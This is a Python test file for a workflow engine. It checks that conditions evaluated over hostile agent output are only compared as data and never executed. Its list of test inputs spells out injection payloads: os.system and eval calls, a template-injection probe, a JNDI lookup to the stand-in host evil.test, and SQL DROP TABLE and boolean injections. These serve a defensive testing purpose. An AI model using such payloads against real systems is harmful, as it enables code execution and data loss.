"""Agent outputs are data: `when` conditions over hostile model output never run code."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from workflows.conditions import evaluate_condition, parse_condition

HOSTILE_VALUES: list[Any] = [
    "__import__('os').system('touch {marker}')",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${{jndi:ldap://evil.test/a}}",
    "open('{marker}', 'w').write('x')",
    "eval(\"__import__('os').system('touch {marker}')\")",
    "1; DROP TABLE apps; --",
    {"__class__": "os.system", "__globals__": {"os": "system"}},
    ["__import__('os')", {"risk_level": "exec('touch {marker}')"}],
    "high' or '1'=='1",
    "x" * 100_000,
]


@pytest.mark.parametrize("template", range(len(HOSTILE_VALUES)))
def test_hostile_outputs_are_only_compared_as_data(template: int, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    raw = HOSTILE_VALUES[template]
    value = raw.format(marker=marker) if isinstance(raw, str) and "{marker}" in raw else raw
    outputs = {"analyze": {"risk": {"level": value, "score": value}}}
    conditions = [
        "steps.analyze.risk.level == 'high'",
        "steps.analyze.risk.level != 'high'",
        "steps.analyze.risk.score > 0.5",
        "'high' in steps.analyze.risk.level",
        "not steps.analyze.risk.level",
        "steps.analyze.risk.level.__class__ == 'str'",
    ]
    for text in conditions:
        try:
            cond = parse_condition(text)
        except ValueError:
            continue  # the language refuses the condition itself: nothing evaluated
        try:
            result = evaluate_condition(cond, {}, outputs)
        except ValueError:
            continue  # a type error of the language, reported as a condition error
        assert isinstance(result, bool)
    assert not marker.exists()
    # The comparison is literal: the hostile text is never "high".
    assert (
        evaluate_condition(parse_condition("steps.analyze.risk.level == 'high'"), {}, outputs)
        is False
    )
